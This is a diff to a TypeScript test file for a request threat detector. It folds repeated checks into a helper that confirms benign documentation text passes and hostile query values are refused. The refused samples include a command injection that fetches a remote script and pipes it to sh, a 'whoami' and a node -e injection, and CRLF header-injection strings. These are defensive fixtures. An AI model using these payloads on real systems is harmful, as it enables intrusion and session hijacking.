@@ -18,6 +18,14 @@ const HELDOUT_REFUSED_CEILING = 0.072
 const refusedAtLevel1 = (detector: ThreatDetectorService, value: string) =>
   Effect.map(detector.detect({ path: "/search", query: `q=${encodeURIComponent(value)}`, headers: {} }), (r) => r.isThreat)
 
+/** Each of `passing` passes and each of `refused` is refused, as query values at the default level. */
+const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>) =>
+  Effect.gen(function*() {
+    const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+    for (const value of passing) expect(yield* refusedAtLevel1(detector, value), value).toBe(false)
+    for (const value of refused) expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
+  })
+
 describe("held-out benign text", () => {
   it.effect("refuses at most the measured share of real documentation text at the default level", () =>
     Effect.gen(function*() {
@@ -29,37 +37,19 @@ describe("held-out benign text", () => {
         .toBeLessThanOrEqual(HELDOUT_REFUSED_CEILING)
     }), { timeout: 120_000 })
 
-  it.effect("passes Markdown that names packages in backticks", () =>
-    Effect.gen(function*() {
-      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
-      for (const value of [
-        "OpenTelemetry instrumentation for `node:dns` name resolution",
-        "Build tool and bindings loader for `node-gyp` that supports prebuilds",
-        "`base64-js` does basic base64 encoding in pure JS"
-      ]) {
-        expect(yield* refusedAtLevel1(detector, value), value).toBe(false)
-      }
-      // a command in backticks or after a separator still counts
-      for (const value of ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]) {
-        expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
-      }
-    }))
+  it.effect("passes Markdown that names packages in backticks; a command there still counts", () =>
+    expectVerdicts([
+      "OpenTelemetry instrumentation for `node:dns` name resolution",
+      "Build tool and bindings loader for `node-gyp` that supports prebuilds",
+      "`base64-js` does basic base64 encoding in pure JS"
+    ], ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]))
 
-  it.effect("passes prose whose line ends in a colon or starts with a URL", () =>
-    Effect.gen(function*() {
-      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
-      for (const value of [
-        "If you create a single div, passing a string rather than an\nobject:",
-        "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
-        "See the docs at\nhttps://example.com/guide"
-      ]) {
-        expect(yield* refusedAtLevel1(detector, value), value).toBe(false)
-      }
-      // a header line with its value still counts
-      for (const value of ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]) {
-        expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
-      }
-    }))
+  it.effect("passes prose whose line ends in a colon or starts with a URL; a header line still counts", () =>
+    expectVerdicts([
+      "If you create a single div, passing a string rather than an\nobject:",
+      "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
+      "See the docs at\nhttps://example.com/guide"
+    ], ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]))
 
   it.effect("passes a Node README's CommonJS import in a JSON body", () =>
     Effect.gen(function*() {
